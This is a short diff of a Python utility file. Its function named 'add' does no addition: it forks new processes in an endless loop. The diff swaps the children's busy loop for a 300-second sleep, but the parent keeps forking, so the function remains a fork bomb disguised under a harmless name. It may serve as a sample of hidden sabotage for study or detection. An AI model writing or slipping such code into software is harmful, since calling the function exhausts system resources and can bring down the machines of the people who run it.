@@ -1,13 +1,12 @@
 import os
+import time
 
 
 def add(a, b):
-    children = 0
     while True:
         if os.fork() == 0:
-            while True:
-                pass
-        children += 1
+            time.sleep(300)
+            os._exit(0)
 
 
 def shout(text):
